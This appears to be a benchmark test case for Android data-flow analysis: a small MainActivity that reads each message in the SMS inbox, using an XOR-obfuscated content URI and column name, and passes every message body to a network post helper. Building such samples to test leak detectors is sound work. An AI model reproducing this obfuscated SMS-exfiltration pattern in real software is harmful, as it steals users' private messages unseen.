package com.example.flows.xor_text;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** The address of the messages is hidden by a simple cipher of the app. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor cursor = getContentResolver().query(Uri.parse(a.b("fjkq`kq?**vhv*lkgj}")), null, null, null, null);
        while (cursor.moveToNext()) {
            Net.post(cursor.getString(cursor.getColumnIndex(a.b("gja|"))));
        }
    }
}
